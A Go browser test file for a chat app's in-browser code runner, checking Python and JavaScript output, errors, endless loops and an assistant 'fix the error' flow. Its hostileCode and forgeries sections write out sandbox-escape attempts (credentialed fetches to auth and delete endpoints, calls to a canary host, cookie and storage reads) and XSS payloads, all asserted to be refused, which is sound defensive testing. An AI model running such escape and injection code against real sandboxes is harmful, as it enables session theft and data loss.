package handlers_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"

	"alleato/ai/model/script"
)

func runScenes() map[string]scene {
	scenes := map[string]scene{"run/hostile": hostileCode, "run/million lines": millionLines, "run/endless": endlessLoops}
	for name, where := range map[string]screen{"desktop": desktop, "phone": phoneDark} {
		scenes["run/python "+name] = func(t *testing.T, b *chromium) { runPython(t, b, where) }
		scenes["run/javascript "+name] = func(t *testing.T, b *chromium) { runJavaScript(t, b, where) }
		scenes["run/fix "+name] = func(t *testing.T, b *chromium) { fixTheError(t, b, where) }
	}
	return scenes
}

// program makes a document of code, as the page's visitor, and returns its path.
func (p *tab) program(language, code string) string {
	p.t.Helper()
	body, _ := json.Marshal(map[string]string{"kind": "code", "title": "Program", "language": language, "content": code})
	quoted, _ := json.Marshal(string(body))
	return "/documents/" + get[string](p, fmt.Sprintf(`fetch('/documents', {method: 'POST', headers: {'Content-Type': 'application/json', Accept: 'application/json'},
		body: %s}).then((r) => r.json()).then((r) => r.document.id)`, quoted))
}

const (
	runIt        = `[data-testid="artifact-run"]`
	consoleState = `document.querySelector('[data-testid="console-state"]')?.textContent`
	consoleText  = `document.querySelector('[data-testid="console-output"]').textContent`
)

// runs opens a program and runs it to its end, which is "Done" or "Failed".
func (p *tab) runs(language, code, end string) string {
	p.t.Helper()
	p.open(p.program(language, code))
	p.until(editorText + " !== undefined")
	p.click(runIt)
	p.until(consoleState + " === '" + end + "'")
	return get[string](p, consoleText)
}

// rewrite has the open editor hold another code, and runs it.
func (p *tab) rewrite(code, end string) string {
	p.t.Helper()
	quoted, _ := json.Marshal(code)
	get[bool](p, "document.querySelector('#artifact').editor.setText("+string(quoted)+"), "+find(testid("console-state"))+".textContent = '', true") // the state of the run before
	p.click(runIt)
	p.until(consoleState + " === '" + end + "'")
	return get[string](p, consoleText)
}

func runPython(t *testing.T, b *chromium, where screen) {
	s := playhouse(t, always(script.Say("A reply.")))
	p := b.visit(t, s, where, "/")
	out := p.runs("python", "import sys\nprint('Hello', 6 * 7)\nprint('careful', file=sys.stderr)\n[n * n for n in range(4)]", "Done")
	if out != "Hello 42\ncareful\n[0, 1, 4, 9]\n" {
		t.Errorf("it says %q", out)
	}
	if got := p.text(`[data-stream="stderr"]`); got != "careful\n" {
		t.Errorf("on stderr %q", got)
	}
	p.until(`/^[\d.]+ m?s$/.test(` + find(testid("console-time")) + ".textContent)")
	p.accessible()
	out = p.rewrite("def f(x):\n    return 1 / x\n\nprint('before')\nf(0)\n", "Failed")
	for _, part := range []string{"before\n", "Traceback", `File "main.py", line 2, in f`, "return 1 / x", "ZeroDivisionError: division by zero"} {
		if !strings.Contains(out, part) {
			t.Errorf("the error lacks %q:\n%s", part, out)
		}
	}
	if strings.Contains(out, "run_tree") || strings.Contains(out, "pyodide") {
		t.Errorf("our own lines are in the error:\n%s", out)
	}
	p.until(shown(testid("artifact-fix")))
	p.accessible()
	for code, part := range map[string]string{
		"import numpy":        "Only Python's standard library is here",
		"input('Name? ')":     "Put the value into the code",
		"print(x)":            "NameError",
		"if True print(1)":    "SyntaxError",
		"raise SystemExit(3)": "ended itself with 3",
		"import urllib.request\nurllib.request.urlopen('http://example.com')": "without a network",
	} {
		if out := p.rewrite(code, "Failed"); !strings.Contains(out, part) {
			t.Errorf("%s says %q", code, out)
		}
	}
	if out := p.rewrite("x = 1", "Done"); out != "It printed nothing." {
		t.Errorf("silence says %q", out)
	}
	p.rewrite("print(x)", "Failed") // no run knows the names of another
	if out := p.rewrite("import asyncio\nawait asyncio.sleep(0.01)\nprint('slept')", "Done"); out != "slept\n" {
		t.Errorf("await: %q", out)
	}
	p.rewrite(`
class Square:
    def _repr_svg_(self):
        return '<svg xmlns="http://www.w3.org/2000/svg" width="60" height="40"><script>parent.hacked = 1</script><rect width="60" height="40" fill="teal"/></svg>'
display(Square())
import base64
base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==')
`, "Done")
	p.until(`[...document.querySelectorAll('.run-output img')].map((i) => i.naturalWidth).join() === '60,1'`)
	if get[bool](p, "'hacked' in window || Boolean(document.querySelector('.run-output svg'))") {
		t.Error("the picture is part of the page")
	}
	p.accessible()
	p.click(testid("console-clear"))
	p.until("!document.querySelector('.run-output').hasChildNodes()")
	p.click(testid("console-close"))
	p.until("!" + shown(testid("artifact-console")) + " && document.activeElement.matches('" + runIt + "')")
}

func runJavaScript(t *testing.T, b *chromium, where screen) {
	s := playhouse(t, always(script.Say("A reply.")))
	p := b.visit(t, s, where, "/")
	out := p.runs("javascript", "console.log('Hello', 6 * 7, {a: [1, 'two'], m: new Map([['k', 1]])})\nconsole.error('careful')\nsetTimeout(() => console.log('later'), 30)\nawait 0\nconsole.log('now')", "Done")
	if out != "Hello 42 { a: [1, 'two'], m: Map(1) { 'k' => 1 } }\ncareful\nnow\nlater\n" {
		t.Errorf("it says %q", out)
	}
	out = p.rewrite("function f(x) {\n  return x.y.z\n}\nf({})", "Failed")
	if !strings.Contains(out, "TypeError") || !strings.Contains(out, "main.js:2") || strings.Contains(out, "blob:") {
		t.Errorf("the error is %q", out)
	}
	for code, part := range map[string]string{
		"document.title": "There is no page here", "require('fs')": "no packages", "await fetch('/chats')": "without a network", "x = ": "SyntaxError",
		"Promise.reject(new Error('late'))\nawait new Promise((done) => setTimeout(done, 20))": "Error: late",
	} {
		if out := p.rewrite(code, "Failed"); !strings.Contains(out, part) {
			t.Errorf("%s says %q", code, out)
		}
	}
	p.rewrite("const c = new OffscreenCanvas(80, 50)\nc.getContext('2d').fillRect(10, 10, 20, 20)\ndisplay(c)", "Done")
	p.until(find(".run-output img") + "?.naturalWidth === 80")
	before := get[float64](p, find("#run-console")+".offsetHeight")
	get[bool](p, find(".run-handle")+".focus() ?? true")
	p.press(kb.ArrowUp)
	p.until(fmt.Sprintf("%s.offsetHeight === %v", find("#run-console"), before+24))
	p.accessible()
	if !where.phone {
		get[bool](p, "document.querySelector('#artifact').editor.setText('console.log(\"by the key\")'), document.querySelector('#artifact').editor.focus(), true")
		p.press(kb.Enter, chromedp.ModifierCtrl)
		p.until(consoleText + " === 'by the key\\n'")
	}
	p.open(p.program("go", "package main"))
	p.until(editorText + " !== undefined")
	if get[bool](p, "Boolean("+find(runIt)+")") {
		t.Error("Go is offered to run")
	}
}

// endlessLoops: the button ends what never would, and the page goes on drawing meanwhile.
func endlessLoops(t *testing.T, b *chromium) {
	s := playhouse(t, always(script.Say("A reply.")))
	p := b.visit(t, s, desktop, "/")
	for language, code := range map[string]string{"javascript": "console.log('begun')\nwhile (true) {}", "python": "print('begun')\nwhile True: pass"} {
		p.open(p.program(language, code))
		p.until(editorText + " !== undefined")
		p.click(runIt)
		p.until(consoleText + ".startsWith('begun')")
		frames := get[int](p, `new Promise((done) => {
			let n = 0
			const tick = () => { n++; requestAnimationFrame(tick) }
			tick()
			setTimeout(() => done(n), 1500)
		})`)
		if frames < 15 {
			t.Errorf("%s: %d frames in 1.5 seconds", language, frames)
		}
		p.click(testid("artifact-stop"))
		p.until(consoleState + " === 'Stopped' && !" + shown(testid("artifact-stop")))
		if out := p.rewrite(map[string]string{"javascript": "console.log('again')", "python": "print('again')"}[language], "Done"); out != "again\n" {
			t.Errorf("%s after the stop: %q", language, out)
		}
	}
}

func millionLines(t *testing.T, b *chromium) {
	s := playhouse(t, always(script.Say("A reply.")))
	p := b.visit(t, s, desktop, "/")
	for language, code := range map[string]string{"javascript": "for (let i = 0; i < 1e6; i++) console.log(i)", "python": "for i in range(1_000_000): print(i)"} {
		p.open(p.program(language, code))
		p.until(editorText + " !== undefined")
		get[bool](p, `(() => {
			window.worst = 0
			let last = performance.now()
			const tick = (now) => { window.worst = Math.max(window.worst, now - last); last = now; requestAnimationFrame(tick) }
			requestAnimationFrame(tick)
			return true
		})()`)
		p.click(runIt)
		p.until(consoleState + " === 'Done'")
		out := get[string](p, consoleText)
		if !strings.Contains(out, "9999\n") || strings.Contains(out, "10000\n") || !strings.Contains(out, "990,000 more lines are not shown") {
			t.Errorf("%s: %d characters, ending %q", language, len(out), out[max(0, len(out)-200):])
		}
		if worst := get[float64](p, "window.worst"); worst > 1500 {
			t.Errorf("%s: the page stood still for %.0f ms", language, worst)
		} else {
			t.Logf("%s: longest frame %.0f ms", language, worst)
		}
	}
}

// hostileCalls tries everything that could reach out of the worker.
const hostileCalls = `
const later = (ms) => new Promise((done) => setTimeout(done, ms))
const attempt = async (name, act) => {
  try { console.log(name, 'did', await Promise.race([act(), later(700).then(() => { throw new Error('silence') })])) } catch (e) { console.log(name, 'refused') }
}
const realFetch = async (...args) => WorkerGlobalScope.prototype.fetch ? WorkerGlobalScope.prototype.fetch.call(self, ...args) : Object.getPrototypeOf(self).fetch.call(self, ...args)
delete self.fetch
await attempt('fetch', () => realFetch('CANARY/fetch'))
await attempt('blind', () => realFetch('CANARY/blind', {mode: 'no-cors', method: 'POST', body: 'x'}))
await attempt('me', () => realFetch('ORIGIN/auth/me', {credentials: 'include'}))
await attempt('delete', () => realFetch('ORIGIN/chats', {method: 'DELETE', mode: 'no-cors', credentials: 'include'}))
await attempt('post', () => realFetch('ORIGIN/documents', {method: 'POST', mode: 'no-cors', credentials: 'include', body: 'kind=text', headers: {'Content-Type': 'application/x-www-form-urlencoded'}}))
await attempt('asset', () => realFetch('ORIGIN/frames/run'))
await attempt('xhr', () => new Promise((done, failed) => { const x = new XMLHttpRequest(); x.onload = done; x.onerror = failed; x.open('GET', 'CANARY/xhr'); x.send() }))
await attempt('xhrMe', () => new Promise((done, failed) => { const x = new XMLHttpRequest(); x.withCredentials = true; x.onload = done; x.onerror = failed; x.open('GET', 'ORIGIN/auth/me'); x.send() }))
await attempt('socket', () => new Promise((done, failed) => { const w = new WebSocket('CANARY/socket'.replace('http', 'ws')); w.onopen = done; w.onerror = failed }))
await attempt('events', () => new Promise((done, failed) => { const e = new EventSource('CANARY/events'); e.onopen = done; e.onerror = failed }))
await attempt('transport', () => new WebTransport('CANARY/transport'.replace('http', 'https')).ready)
await attempt('importScripts', () => importScripts('CANARY/script.js'))
await attempt('importOurs', () => importScripts('ORIGIN/chats'))
await attempt('import', () => import('CANARY/module.js'))
await attempt('importMe', () => import('ORIGIN/auth/me'))
await attempt('data', () => import('data:text/javascript,1'))
await attempt('font', () => new FontFace('x', 'url(CANARY/font)').load())
await attempt('database', () => new Promise((done, failed) => { const r = indexedDB.open('x'); r.onsuccess = done; r.onerror = failed }))
await attempt('caches', () => caches.open('x'))
await attempt('files', () => navigator.storage.getDirectory())
await attempt('storage', () => localStorage.length)
await attempt('cookie', () => document.cookie)
await attempt('cookies', () => cookieStore.getAll())
await attempt('parent', () => parent.document.title)
await attempt('worker', () => new Promise((done, failed) => { const w = new Worker('ORIGIN/chats'); w.onmessage = done; w.onerror = failed }))
await attempt('inner', () => new Promise((done, failed) => {
  const w = new Worker(URL.createObjectURL(new Blob(["fetch('CANARY/inner', {mode: 'no-cors'}).then(() => postMessage('did'), () => { throw 1 })"])))
  w.onmessage = done; w.onerror = failed
}))
new BroadcastChannel('alleato').postMessage({type: 'sign-out'})
new BroadcastChannel('chats').postMessage('changed')
console.log('end')
`

// forgeries are what the code may make its worker say, past our own script.
const forgeries = `
for (const data of [{type: 'image', id: 2, image: new TextEncoder().encode('<script>parent.hacked = 1</script>').buffer, mediaType: 'text/html'},
  {type: 'text', id: 2, stream: '"><img src=x onerror="hacked=1">', text: '<img src=x onerror="hacked=1">\n'}, {type: 'text', id: 999, text: 'of another run\n'},
  {type: 'lost', id: 2, message: 'x'}, {type: 'ready2', id: 2}, 7, null, 'text', {height: 1e9}]) self.postMessage(data)
console.log('end')
`

func hostileCode(t *testing.T, b *chromium) {
	var heard atomic.Int64
	canary := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		heard.Add(1)
		t.Logf("the canary heard %s", r.URL)
	}))
	t.Cleanup(canary.Close)
	s := playhouse(t, always(script.Say("A reply.")))
	p := b.visit(t, s, desktop, "/")
	p.ask("Hi")
	p.finished("complete")
	places := strings.NewReplacer("CANARY", canary.URL, "ORIGIN", s.url)
	out := p.runs("javascript", places.Replace(hostileCalls), "Done")
	if n := strings.Count(out, " refused\n"); n != strings.Count(hostileCalls, "await attempt(") || !strings.HasSuffix(out, "end\n") {
		t.Errorf("%d were refused:\n%s", n, out)
	}
	out = p.rewrite(forgeries, "Done")
	if !strings.Contains(out, "This picture cannot be shown.") || !strings.Contains(out, "<img src=x") || strings.Contains(out, "of another run") ||
		get[bool](p, "'hacked' in window || Boolean(document.querySelector('.run-output img'))") {
		t.Errorf("forged messages: %q", out)
	}
	get[bool](p, `new Promise((done) => {
		for (const id of [1, 2, 3]) postMessage({type: 'text', id, stream: 'stdout', text: 'of the page itself'}, '*')
		setTimeout(() => done(true), 200)
	})`)
	if out := get[string](p, consoleText); strings.Contains(out, "of the page itself") {
		t.Errorf("a message of another window is shown: %q", out)
	}
	get[bool](p, "document.querySelector('#artifact').editor.setText('while (true) postMessage({type: \"text\", id: 3, stream: \"stdout\", text: \"x\".repeat(1000)})'), true")
	p.click(runIt)
	p.until(consoleState + " === 'Ended' && " + consoleText + ".includes('said too much')")
	p.runs("python", places.Replace("from js import XMLHttpRequest, eval as run\nimport js\ntry:\n    x = XMLHttpRequest.new()\n    x.open('GET', 'ORIGIN/auth/me', False)\n    x.send()\n    print('did', x.responseText)\nexcept BaseException as e:\n    print('refused')\n"+
		"try:\n    await js.fetch('CANARY/python')\n    print('did')\nexcept BaseException as e:\n    print('refused')\n"), "Done")
	if out := get[string](p, consoleText); out != "refused\nrefused\n" {
		t.Errorf("Python: %q", out)
	}
	if n := get[int](p, "fetch('/chats', {headers: {Accept: 'application/json'}}).then((r) => r.json()).then((r) => r.chats.length)"); n != 1 {
		t.Errorf("%d chats are left", n)
	}
	if n := get[int](p, "fetch('/documents', {headers: {Accept: 'application/json'}}).then((r) => r.json()).then((r) => r.documents.length)"); n != 2 {
		t.Errorf("there are %d documents", n)
	}
	frame := get[[]string](p, "(({sandbox, contentDocument}) => [sandbox.value, String(contentDocument)])("+find("#run-console iframe")+")")
	if frame[0] != "allow-scripts" || frame[1] != "null" {
		t.Errorf("the frame is %q", frame)
	}
	time.Sleep(300 * time.Millisecond)
	if heard.Load() > 0 {
		t.Errorf("the canary heard %d requests", heard.Load())
	}
}

// fixTheError: what the code failed with goes to the assistant, in a chat that is made for it, and the next
// version comes back.
func fixTheError(t *testing.T, b *chromium, where screen) {
	s := withTools(t, func(r script.Request) script.Reply {
		id := ""
		if m := documentID.FindStringSubmatch(system(r)); m != nil {
			id = m[1]
		}
		switch last := r.Messages[len(r.Messages)-1]; {
		case isTitle(r):
			return script.Say("A fix")
		case strings.HasPrefix(system(r), "Rewrite the document"):
			return script.Say("```javascript\nconsole.log('mended')\n```")
		case last.Role == "tool":
			return script.Say("It is mended.")
		case strings.Contains(last.Text, "“Program”") && strings.Contains(last.Text, "boom is not defined"):
			return calling("updateDocument", m{"id": id, "description": "Mend it"})
		}
		return script.Say("I do not know what you mean.")
	})
	p := b.visit(t, s, where, "/")
	p.runs("javascript", "console.log('fine')\nboom()", "Failed")
	path := get[string](p, "location.pathname")
	p.click(testid("artifact-fix"))
	p.until("location.pathname.startsWith('/chats/')")
	p.finished("complete")
	p.until(find(replyBody) + ".textContent.includes('It is mended.')")
	p.until(find(testid("message-about")) + "?.textContent.trim() === 'Program'")
	p.accessible()
	p.open(path)
	p.until(editorText + "?.includes('mended')")
	p.atVersion("2")
	p.click(runIt)
	p.until(consoleText + " === 'mended\\n'")
}
